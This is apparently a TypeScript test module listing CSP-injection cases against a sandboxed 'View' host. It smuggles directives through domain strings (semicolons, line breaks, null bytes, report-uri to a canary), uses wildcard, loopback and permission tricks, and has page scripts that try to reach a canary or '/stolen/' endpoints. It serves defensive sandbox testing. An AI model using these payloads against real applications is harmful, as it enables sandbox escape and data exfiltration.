import type { Attack, Targets } from './attack.ts'
import { page, reachesCanary, type Judge } from './judges.ts'
import { script } from './view-kit.ts'

const everyWay = ({ canary }: Targets): string =>
  script(
    `new Image().src = '${canary}/x.png'; const s = document.createElement('script'); s.src = '${canary}/x.js'; document.head.append(s); await later(fetch('${canary}/x'))`,
  )

const injection = (id: string, title: string, csp: (at: Targets) => unknown): Attack => ({
  id: `csp-${id}`,
  title,
  category: 'csp-injection',
  view: everyWay,
  declares: (at) => ({ csp: csp(at) }),
  escaped: reachesCanary,
})

const askHost: Judge = ({ hostServer }) => hostServer.join(', ') || undefined
const own = (id: string, title: string, csp: (at: Targets) => unknown, url: (at: Targets) => string): Attack => ({
  ...injection(id, title, csp),
  view: (at) =>
    script(
      `new Image().src = '${url(at)}/stolen/RUN/image'; const f = document.createElement('iframe'); f.src = '${url(at)}/stolen/RUN/frame'; document.body.append(f); await later(fetch('${url(at)}/stolen/RUN/fetch', { mode: 'no-cors' })); await wait(200)`,
    ),
  escaped: askHost,
})
const sameLoopback = ({ host }: Targets): string => `http://127.0.0.1:${new URL(host).port}`

const permission = (id: string, title: string, name: string, feature: RegExp): Attack => ({
  id: `csp-permission-${id}`,
  title,
  category: 'csp-injection',
  view: () => script(`await wait(50)`),
  declares: () => ({ permissions: { [name]: {} } }),
  escaped: page(({ frames }) =>
    frames
      .map(({ allow }) => allow)
      .filter((allow) => feature.test(allow))
      .join(', '),
  ),
})

/** Strings in the metadata of a resource that try to become more than they are. */
export const injectionAttacks: readonly Attack[] = [
  injection('star', 'a domain that is all domains', () => ({ connectDomains: ['*'], resourceDomains: ['*'] })),
  injection('scheme', 'a domain that is a scheme', () => ({ connectDomains: ['http:'], resourceDomains: ['http:'] })),
  injection('scheme-case', 'a scheme in capitals', () => ({ connectDomains: ['HTTP:'] })),
  injection('any-port', 'a domain on every port', () => ({ connectDomains: ['http://127.0.0.1:*'] })),
  injection('any-host', 'every host on every port', () => ({ resourceDomains: ['http://*:*'] })),
  injection('bare-any-port', 'a bare host on every port', () => ({ connectDomains: ['127.0.0.1:*'] })),
  injection('directive', 'a domain with a directive behind it', ({ allowed }) => ({
    resourceDomains: [`${allowed}; connect-src *`],
  })),
  injection('directive-newline', 'a directive behind a line break', ({ allowed }) => ({
    resourceDomains: [`${allowed}\n;connect-src *`],
  })),
  injection('directive-carriage', 'a header behind a line break', ({ allowed }) => ({
    resourceDomains: [`${allowed}\r\n; img-src *;`],
  })),
  injection('directive-null', 'a directive behind a null character', ({ allowed }) => ({
    resourceDomains: [`${allowed}\0;connect-src *`],
  })),
  injection('two', 'two domains in one string', ({ allowed, canary }) => ({ connectDomains: [`${allowed} ${canary}`] })),
  injection('two-tab', 'two domains with a tab between', ({ allowed, canary }) => ({
    connectDomains: [`${allowed}\t${canary}`],
  })),
  injection('two-unicode', 'two domains with an odd space between', ({ allowed, canary }) => ({
    connectDomains: [`${allowed}\u2003${canary}`],
  })),
  injection('string', 'a string where a list should be', () => ({ connectDomains: '*' })),
  injection('nested', 'a list within the list', () => ({ connectDomains: [['*']], resourceDomains: [['*']] })),
  injection('to-string', 'something that only looks like a list', () => ({ connectDomains: [{ 0: '*' }, ['http:']] })),
  injection('report', 'an address for reports', ({ allowed, canary }) => ({
    resourceDomains: [`${allowed}; report-uri ${canary}/report`],
  })),
  injection('base', 'a directive through the base domains', ({ canary }) => ({
    connectDomains: ["'none'; connect-src *"],
    baseUriDomains: [`x; report-uri ${canary}/report`],
  })),
  injection('frame-directive', 'a directive through the frame domains', ({ canary }) => ({
    frameDomains: [`x; report-uri ${canary}/report`],
  })),
  own(
    'own-host',
    'the host page as a declared domain',
    ({ host }) => ({ connectDomains: [host], resourceDomains: [host], frameDomains: [host] }),
    ({ host }) => host,
  ),
  own(
    'own-loopback',
    'the host page by another name of the same machine',
    (at) => ({ connectDomains: [sameLoopback(at)], resourceDomains: [sameLoopback(at)], frameDomains: [sameLoopback(at)] }),
    sameLoopback,
  ),
  own(
    'own-wildcard',
    'the host page by a wildcard',
    ({ host }) => ({ connectDomains: [host.replace(/\/\/[a-z]+/, '//*')], resourceDomains: [host.replace(/\/\/[a-z]+/, '//*')] }),
    ({ host }) => host,
  ),
  permission('list', 'a permission that is several', 'camera; microphone *; geolocation *', /microphone/),
  permission('unknown', 'a permission that cannot be asked for', 'display-capture', /display-capture/),
  permission('star', 'a permission for everybody', 'geolocation *', /geolocation \*/),
  {
    id: 'csp-domain-host',
    title: 'the host page as the origin of the View',
    category: 'csp-injection',
    view: () => script(`attempt(() => { top.document.title = 'taken' })`),
    declares: ({ host }) => ({ domain: new URL(host).hostname }),
    mayBeRefused: true,
    escaped: page(
      ({ title }, { viewOrigins, hostOrigin }) =>
        (title === 'taken' || viewOrigins.includes(hostOrigin)) && 'the View has the origin of the host',
    ),
  },
]
